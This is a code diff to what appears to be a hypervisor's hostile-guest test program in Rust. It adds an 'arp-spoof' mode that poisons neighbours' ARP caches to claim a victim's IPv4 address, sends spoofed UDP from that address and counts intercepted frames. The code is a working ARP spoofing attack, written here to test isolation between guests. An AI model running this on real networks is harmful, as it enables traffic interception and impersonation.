@@ -34,6 +34,7 @@
 //! | `bad-stack`   | points `rsp` at nothing and pushes                    |
 //! | `direct-map-write` | writes where the hypervisor maps all RAM (other guests' memory) |
 //! | `df-*`, `keep-secret` | exits taken with RFLAGS.DF and AC set, and a victim for them: see `flags.rs` |
+//! | `arp-spoof IP SECS` | (needs a vNIC) claims IPv4 address IP with its own MAC for SECS seconds: every 20 ms gratuitous ARP (broadcast), ARP requests for hosts .1 to .9 of its /24 "from" IP (broadcast), ARP replies to every neighbour it has heard (unicast) and a UDP datagram from IP; answers every ARP request for IP at once; counts the frames it receives, and the IPv4 ones addressed to IP (intercepted); exits 0 |
 #![no_std]
 #![no_main]
 
@@ -65,6 +66,8 @@ struct RawNic {
     gateway: [u8; 4],
     slots: u32,
     prod: u32,
+    /// Our RX consumer index.
+    rx_cons: u32,
 }
 
 impl RawNic {
@@ -77,11 +80,44 @@ impl RawNic {
             libos::exit(2);
         }
         let m = info.mac;
-        Self { mac: [m[0], m[1], m[2], m[3], m[4], m[5]], ipv4: info.ipv4, gateway: info.gateway, slots: info.ring_slots, prod: 0 }
+        Self { mac: [m[0], m[1], m[2], m[3], m[4], m[5]], ipv4: info.ipv4, gateway: info.gateway, slots: info.ring_slots, prod: 0, rx_cons: 0 }
     }
 
     fn index(offset: usize) -> *mut u32 {
         (abi::layout::EVENT_PAGE + abi::layout::NIC_TX_INDICES + offset as u64) as *mut u32
+    }
+
+    fn rx_index(offset: usize) -> *mut u32 {
+        (abi::layout::EVENT_PAGE + abi::layout::NIC_RX_INDICES + offset as u64) as *mut u32
+    }
+
+    /// Copies the next received frame into `buf` and returns its length
+    /// (0 for a length out of range), or `None` if none is waiting.
+    fn recv(&mut self, buf: &mut [u8; abi::ring::MTU_FRAME]) -> Option<usize> {
+        // SAFETY: the shared page is mapped read-write; aligned u32s.
+        let prod = unsafe { core::ptr::read_volatile(Self::rx_index(abi::ring::PROD_OFFSET)) };
+        if prod == self.rx_cons {
+            return None;
+        }
+        let slot = abi::layout::NIC_RX_RING + u64::from(self.rx_cons % self.slots) * abi::ring::SLOT_SIZE as u64;
+        // SAFETY: the slot lies in the RX ring, mapped read-write; the
+        // length is checked before the copy.
+        let len = usize::from(unsafe { core::ptr::read_volatile(slot as *const u16) });
+        let len = if (abi::ring::MIN_FRAME..=abi::ring::MTU_FRAME).contains(&len) { len } else { 0 };
+        // SAFETY: as above; at most MTU_FRAME bytes after the length field.
+        unsafe { core::ptr::copy_nonoverlapping((slot + 2) as *const u8, buf.as_mut_ptr(), len) };
+        self.rx_cons = self.rx_cons.wrapping_add(1);
+        // SAFETY: as above.
+        unsafe { core::ptr::write_volatile(Self::rx_index(abi::ring::CONS_OFFSET), self.rx_cons) };
+        Some(len)
+    }
+
+    /// Sends `f`, first kicking the hypervisor until the ring has room.
+    fn send_waiting(&mut self, f: &[u8]) {
+        while self.space() == 0 {
+            libos::hypercall::net_kick();
+        }
+        self.send(f);
     }
 
     fn space(&self) -> u32 {
@@ -135,6 +171,148 @@ fn arp_request(nic: &RawNic, target: [u8; 4]) -> alloc::vec::Vec<u8> {
     f
 }
 
+/// An Ethernet/IPv4 ARP frame from `mac` to `dst`: operation `op` (1
+/// request, 2 reply) saying that `spa` is at `mac`, about `tha`/`tpa`.
+fn arp_frame(mac: [u8; 6], dst: [u8; 6], op: u16, spa: [u8; 4], tha: [u8; 6], tpa: [u8; 4]) -> [u8; 42] {
+    let mut f = [0u8; 42];
+    f[..6].copy_from_slice(&dst);
+    f[6..12].copy_from_slice(&mac);
+    f[12..14].copy_from_slice(&[0x08, 0x06]);
+    // htype Ethernet, ptype IPv4, hlen 6, plen 4.
+    f[14..20].copy_from_slice(&[0, 1, 0x08, 0x00, 6, 4]);
+    f[20..22].copy_from_slice(&op.to_be_bytes());
+    f[22..28].copy_from_slice(&mac);
+    f[28..32].copy_from_slice(&spa);
+    f[32..38].copy_from_slice(&tha);
+    f[38..42].copy_from_slice(&tpa);
+    f
+}
+
+/// An IPv4/UDP frame from `mac` to `dst`, from `src_ip` to `dst_ip` port 9
+/// (discard), with a valid IPv4 header checksum and no UDP checksum.
+fn udp_frame(mac: [u8; 6], dst: [u8; 6], src_ip: [u8; 4], dst_ip: [u8; 4]) -> [u8; 60] {
+    let mut f = [0u8; 60];
+    f[..6].copy_from_slice(&dst);
+    f[6..12].copy_from_slice(&mac);
+    f[12..14].copy_from_slice(&[0x08, 0x00]);
+    let payload = b"spoofed";
+    let udp_len = 8 + payload.len() as u16;
+    let total = 20 + udp_len;
+    f[14..26].copy_from_slice(&[0x45, 0, (total >> 8) as u8, total as u8, 0, 0, 0x40, 0, 64, 17, 0, 0]);
+    f[26..30].copy_from_slice(&src_ip);
+    f[30..34].copy_from_slice(&dst_ip);
+    let sum = f[14..34].chunks(2).fold(0u32, |s, w| s + u32::from(u16::from_be_bytes([w[0], w[1]])));
+    let sum = !(((sum & 0xffff) + (sum >> 16)) as u16);
+    f[24..26].copy_from_slice(&sum.to_be_bytes());
+    f[34..42].copy_from_slice(&[0x30, 0x39, 0, 9, (udp_len >> 8) as u8, udp_len as u8, 0, 0]);
+    f[42..42 + payload.len()].copy_from_slice(payload);
+    f
+}
+
+fn parse_ipv4(s: &str) -> Option<[u8; 4]> {
+    let mut o = [0u8; 4];
+    let mut parts = s.split('.');
+    for b in &mut o {
+        *b = parts.next()?.parse().ok()?;
+    }
+    parts.next().is_none().then_some(o)
+}
+
+/// `arp-spoof`: see the table at the top.
+fn arp_spoof(victim: [u8; 4], secs: u64) -> i32 {
+    const BCAST: [u8; 6] = [0xff; 6];
+    const TICK_NS: u64 = 20_000_000;
+    let mut nic = RawNic::new();
+    let me = nic.mac;
+    // Stations heard from (MAC, IPv4), at most 8.
+    let mut heard: alloc::vec::Vec<([u8; 6], [u8; 4])> = alloc::vec::Vec::new();
+    let (mut arp, mut ipv4, mut received, mut intercepted) = (0u64, 0u64, 0u64, 0u64);
+    let mut buf = [0u8; abi::ring::MTU_FRAME];
+    let start = libos::time::Instant::now().as_nanos();
+    let end = start + secs * 1_000_000_000;
+    let mut next = start;
+    loop {
+        let now = libos::time::Instant::now().as_nanos();
+        if now >= end {
+            break;
+        }
+        if now >= next {
+            next = now + TICK_NS;
+            nic.send_waiting(&arp_frame(me, BCAST, 2, victim, BCAST, victim));
+            nic.send_waiting(&arp_frame(me, BCAST, 1, victim, [0; 6], victim));
+            arp += 2;
+            // "Who has .n? Tell <victim>": each stack that answers to .n
+            // learns <victim> at our MAC (smoltcp learns only from ARP
+            // aimed at it).
+            for n in 1..=9u8 {
+                let tpa = [victim[0], victim[1], victim[2], n];
+                if tpa != victim && tpa != nic.ipv4 {
+                    nic.send_waiting(&arp_frame(me, BCAST, 1, victim, [0; 6], tpa));
+                    arp += 1;
+                }
+            }
+            for &(mac, ip) in &heard {
+                nic.send_waiting(&arp_frame(me, mac, 2, victim, mac, ip));
+                arp += 1;
+            }
+            nic.send_waiting(&udp_frame(me, BCAST, victim, [victim[0], victim[1], 255, 255]));
+            ipv4 += 1;
+            libos::hypercall::net_kick();
+        }
+        // Clear what woke us (a deadline leaves TIMER set, which would
+        // make every later block return at once), then read the ring.
+        let woke = libos::hypercall::block(next.min(end));
+        libos::hypercall::take_events(woke);
+        while let Some(len) = nic.recv(&mut buf) {
+            received += 1;
+            let f = &buf[..len];
+            let (Some(src), Some(ty)) = (f.get(6..12), f.get(12..14)) else { continue };
+            let src: [u8; 6] = src.try_into().unwrap_or_default();
+            let sender = match ty {
+                [0x08, 0x00] => {
+                    if f.get(30..34) == Some(&victim[..]) {
+                        intercepted += 1;
+                    }
+                    f.get(26..30)
+                }
+                [0x08, 0x06] => {
+                    let (op, sha, spa, tpa) = (f.get(20..22), f.get(22..28), f.get(28..32), f.get(38..42));
+                    if let (Some([0, 1]), Some(sha), Some(spa), Some(tpa)) = (op, sha, spa, tpa)
+                        && tpa == victim
+                    {
+                        // Someone asks for the victim: answer first.
+                        let (sha, spa) = (sha.try_into().unwrap_or_default(), spa.try_into().unwrap_or_default());
+                        nic.send_waiting(&arp_frame(me, sha, 2, victim, sha, spa));
+                        libos::hypercall::net_kick();
+                        arp += 1;
+                    }
+                    spa
+                }
+                _ => None,
+            };
+            if let Some(ip) = sender.and_then(|s| <[u8; 4]>::try_from(s).ok())
+                && ip != victim
+                && ip != [0; 4]
+                && src != me
+                && heard.len() < 8
+                && !heard.contains(&(src, ip))
+            {
+                heard.push((src, ip));
+            }
+        }
+    }
+    libos::hypercall::net_kick();
+    let v = victim;
+    println!(
+        "{}: arp-spoof sent {arp} ARP and {ipv4} IPv4 frames claiming {}.{}.{}.{} in {secs} s, heard {} stations; received {received} frames, {intercepted} IPv4 to {}.{}.{}.{}",
+        libos::name(),
+        v[0], v[1], v[2], v[3],
+        heard.len(),
+        v[0], v[1], v[2], v[3]
+    );
+    0
+}
+
 #[allow(unconditional_recursion)]
 fn recurse(depth: u64) -> u64 {
     let big = [depth; 64];
@@ -147,6 +325,14 @@ fn main() -> i32 {
     println!("{}: trying {attack}", libos::name());
     if attack.starts_with("df-") || attack == "keep-secret" {
         return flags::run(attack, libos::args().nth(1));
+    }
+    if attack == "arp-spoof" {
+        let mut args = libos::args().skip(1);
+        let (Some(victim), Some(secs)) = (args.next().and_then(parse_ipv4), args.next().and_then(|s| s.parse().ok())) else {
+            println!("usage: arp-spoof IPV4 SECONDS");
+            return 2;
+        };
+        return arp_spoof(victim, secs);
     }
     // SAFETY: each arm deliberately does something a guest must not; the
     // hypervisor stops the guest before it returns. Nothing here can harm
